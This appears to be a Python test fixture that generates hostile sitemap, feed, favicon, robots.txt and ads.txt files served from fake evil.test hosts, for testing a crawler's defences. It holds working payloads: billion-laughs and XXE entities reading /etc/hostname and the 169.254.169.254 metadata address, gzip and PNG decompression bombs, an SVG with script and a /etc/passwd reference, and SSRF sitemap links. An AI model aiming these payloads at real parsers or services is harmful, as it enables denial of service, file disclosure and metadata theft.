"""Sitemaps, feeds and icons that explode: http://evil.test/files/<name>, and as the files of evil-<name>.test."""

from __future__ import annotations

import gzip
import struct
import zlib
from collections.abc import Callable
from functools import cache

_URLSET = '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'


def _billion_laughs() -> bytes:
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE urlset [{entities}]>{_URLSET}<url><loc>http://evil.test/&a9;</loc></url></urlset>'.encode()


def _external_entity() -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY x SYSTEM "file:///etc/hostname"><!ENTITY y SYSTEM "http://169.254.169.254/x">]>'
        f"{_URLSET}<url><loc>http://evil.test/&x;&y;</loc></url></urlset>"
    ).encode()


def _own_index() -> bytes:
    return (
        b'<?xml version="1.0"?><sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        b"<sitemap><loc>http://evil-sitemapself.test/sitemap.xml</loc></sitemap>"
        b"<sitemap><loc>http://169.254.169.254/sitemap.xml</loc></sitemap></sitemapindex>"
    )


def _million_urls() -> bytes:
    return (_URLSET + "".join(f"<url><loc>http://evil.test/{number}</loc></url>" for number in range(1_000_000)) + "</urlset>").encode()


def _gzip_bomb() -> bytes:
    """A hundred megabytes of a sitemap that never ends, in 300 KB."""
    return gzip.compress(_URLSET.encode() + b"<url><loc>http://evil.test/a</loc></url>" * 2_600_000, 9, mtime=0)


def _png(side: int) -> bytes:
    """A valid PNG of side x side black pixels, small because it is all zeros."""
    packer = zlib.compressobj(9)
    pixels = b"".join(packer.compress(bytes(side // 8 + 1) * 100) for _ in range(side // 100)) + packer.flush()

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


FILES: dict[str, tuple[str, str, Callable[[], bytes]]] = {
    "sitemaplaughs": ("/sitemap.xml", "application/xml", _billion_laughs),
    "sitemapxxe": ("/sitemap.xml", "application/xml", _external_entity),
    "sitemapself": ("/sitemap.xml", "application/xml", _own_index),
    "sitemapmillion": ("/sitemap.xml", "application/xml", _million_urls),
    "sitemapgz": ("/sitemap.xml.gz", "application/gzip", _gzip_bomb),
    "sitemapdeep": ("/sitemap.xml", "application/xml", lambda: b"<a>" * 300_000),
    "feedlaughs": ("/feed.xml", "application/rss+xml", _billion_laughs),
    "iconpng": ("/favicon.ico", "image/png", lambda: _png(20_000)),
    "iconsvg": (
        "/favicon.ico",
        "image/svg+xml",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><image href="file:///etc/passwd"/></svg>',
    ),
    "iconhtml": ("/favicon.ico", "text/html", lambda: b"<!DOCTYPE html><html><title>404</title></html>"),
    "iconframes": ("/favicon.ico", "image/x-icon", lambda: b"\x00\x00\x01\x00\xff\xff" + bytes(16) * 65535),
    "robotshuge": ("/robots.txt", "text/plain", lambda: b"User-agent: *\n" + b"Disallow: /x*y*z*$\n" * 300_000),
    "robotshtml": ("/robots.txt", "text/html", lambda: b"<!DOCTYPE html><html><title>Welcome</title></html>"),
    "robotsnul": ("/robots.txt", "text/plain", lambda: b"User-agent: *\nDisallow: /\x00\x1b[2J\nSitemap: http://169.254.169.254/s.xml\n"),
    "adshtml": ("/ads.txt", "text/html", lambda: b"<!DOCTYPE html><html><title>Page not found</title></html>"),
    "adshuge": ("/ads.txt", "text/plain", lambda: b"google.com, pub-1234567890123456, RESELLER, f08c47fec0942fa0\n" * 200_000),
}
NAMES = tuple(sorted(FILES))


@cache
def file_of(name: str) -> tuple[str, str, bytes] | None:
    """(path, content type, bytes) of a hostile file, None for an unknown name; kept after the first time."""
    found = FILES.get(name)
    return (found[0], found[1], found[2]()) if found else None
